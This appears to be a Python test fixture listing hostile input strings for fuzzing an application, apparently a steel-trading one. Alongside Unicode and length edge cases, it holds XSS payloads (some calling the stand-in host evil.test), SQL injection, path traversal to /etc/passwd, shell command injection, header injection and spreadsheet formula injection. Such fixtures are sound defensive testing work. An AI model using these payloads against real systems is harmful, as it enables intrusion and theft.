"""Text that breaks software, in our own words: markup, formulas, queries, paths, odd characters, odd lengths."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    # nothing, and nearly nothing
    "", " ", "\t", "\u3000", "\u200b", "\ufeff", "\x00", "\x07\x1b[31m红\x1b[0m", "a\r\nb\nc\rd", "\u2028\u2029\x85", ".", "-", "0", "undefined", "None", "NaN", "true",
    # numbers that are none, or too much
    "-1", "1e999", "0x1F", "1/0", "9" * 40, "1,000,000.00", "٣٤٥", "½ Ⅷ ² 𝟙", "三千七百", "+-3650", "1.2.3.4", "-0",
    # scripts and letters of elsewhere
    "鋼材貿易－螺紋鋼", "한국어 日本語 ภาษาไทย", "مرحبا بالعالم", "\u202eחותם\u202c", "Zażółć gęślą jaźń", "ß İ ı ﬁ", "e\u0301\u0301\u0301\u0301" * 20, "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳", "𠮷野家𡃁",
    "\ufffe\uffff", "Ω≈ç√∫˜µ≤≥÷",
    # markup
    "<script>alert(1)</script>", "<ScRiPt src=//evil.test/x.js></sCrIpT>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "<svg on load=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "[x](javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](x\" onerror=\"alert(1))", "<iframe srcdoc='<script>1</script>'>",
    "<style>*{display:none}</style>", "<form action=//evil.test><input name=q></form>", "<math><mi//xlink:href=\"data:x,<script>1</script>\">", "<!--<img src=\"--><img src=x onerror=1//\">",
    "<base href=//evil.test>", "<meta http-equiv=refresh content=0;url=//evil.test>", "</textarea><script>1</script>", "</title><script>1</script>", "&lt;script&gt;1&lt;/script&gt;",
    "\\u003cscript\\u003e1\\u003c/script\\u003e", "<<script>1//<</script>", "<p style=\"background:url(//evil.test)\">x", "<details open ontoggle=1>", "java\tscript:alert(1)", "<![CDATA[<script>1</script>]]>",
    "<b><i></b></i>", "<" * 500, "[" * 500, "> " * 300 + "x", "* " * 300 + "x", "`" * 401, "|a|b|\n|-|-|\n" + "|x" * 200, "<https://evil.test/?a=1&b=\"onmouseover=1>",
    # templates, queries, paths, commands
    "{{7*7}}", "{% for x in y %}", "${7*7}", "#{7*7}", "%(name)s %s %d %n", "{0.__class__}", "%", "_", "' OR '1'='1", "1; DROP TABLE users--", "\" UNION SELECT null--", "'; EXEC x; --",
    "../../../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "C:\\con\\nul", "con", "$(touch x)", "`id`", "| ls", "a; ls", "() { :;}; echo x", "%00%0d%0aSet-Cookie:x=1",
    "a\r\nBcc: all@evil.test", "=?utf-8?B?PHNjcmlwdD4=?=",
    # formulas
    "=1+1", "+1+1", "@SUM(1)", "=HYPERLINK(\"//evil.test\",\"x\")", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1", "-2+3+cmd|x",
    # expressions that make a matcher slow, and long ones
    "a" * 10_000, "螺" * 3_000, "(a+)+$" * 20, "1-" * 2_000, "Φ" * 3_000, "a " * 3_000, "@" * 2_000, "http://" * 300, "\\" * 500, "\"" * 500, "(((((((((((((((((((((((",
    # the trade's own words gone wrong
    "螺纹钢 Φ99999×0m -5吨", "3700以下以下以上", "三级四级五级螺纹", "送到送到送到天津天津", "HRB400E" * 50, "元/吨/吨/吨", "¥", "￥-3650", "100吨吨", "Φ25×12m×12m×12m×12m",
)  # fmt: skip
